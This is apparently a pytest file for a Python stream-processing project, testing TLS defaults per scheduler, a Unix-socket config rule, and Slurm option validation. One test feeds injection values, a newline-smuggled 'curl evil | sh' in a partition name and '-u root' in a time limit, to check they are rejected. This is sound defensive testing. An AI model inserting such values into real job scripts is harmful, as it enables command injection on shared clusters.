"""TLS between hosts by default (issue 34, item 1): unset, heron.network.tls.enabled is on for
every scheduler whose containers may be on different hosts, off for the local scheduler on
loopback; set, it wins. A component that turns the Unix socket off with TLS on is refused."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from heron_py.cli.submit import tls_wanted
from heron_py.common.config import ConfigError, check_topology_config


def _sched(kind: str, host: str = "127.0.0.1") -> object:
    return SimpleNamespace(kind=kind, host=host)


def test_tls_is_on_off_loopback_unless_set() -> None:
    assert not tls_wanted({}, _sched("local"))
    assert tls_wanted({}, _sched("local", "10.0.0.5"))
    assert tls_wanted({}, _sched("slurm")) and tls_wanted({}, _sched("kubernetes"))
    assert not tls_wanted({"heron.network.tls.enabled": "false"}, _sched("slurm"))
    assert tls_wanted({"heron.network.tls.enabled": "true"}, _sched("local"))


def test_a_component_cannot_turn_the_unix_socket_off_under_tls() -> None:
    with pytest.raises(ConfigError) as e:
        check_topology_config({"heron.network.tls.enabled": "true"},
                              {"count": {"heron_py.instance.unix.socket": "false"}})
    assert str(e.value) == ("component 'count': config heron.network.tls.enabled: TLS needs "
                            "heron_py.instance.unix.socket true (instances reach their stream manager through its "
                            "Unix socket), found false")
    check_topology_config({}, {"count": {"heron_py.instance.unix.socket": "false"}})  # no TLS: allowed


def test_slurm_values_cannot_inject_script_lines_and_only_job_ids_reach_scancel(tmp_path) -> None:
    from heron_py.scheduler.base import SchedulerError
    from heron_py.scheduler.slurm import SlurmOptions, batch_script, check_slurm_value

    assert check_slurm_value("partition", "debug,long") == "debug,long"
    with pytest.raises(SchedulerError) as e:
        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
                     options=SlurmOptions(partition="debug\ncurl evil | sh"), state_args=[])
    assert str(e.value) == ("slurm scheduler: partition 'debug\\ncurl evil | sh': expected letters, digits and "
                            "'_.,:+-' only (it goes into an #SBATCH line)")
    with pytest.raises(SchedulerError, match="time limit '1:00 -u root'"):
        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
                     options=SlurmOptions(time_limit="1:00 -u root"), state_args=[])
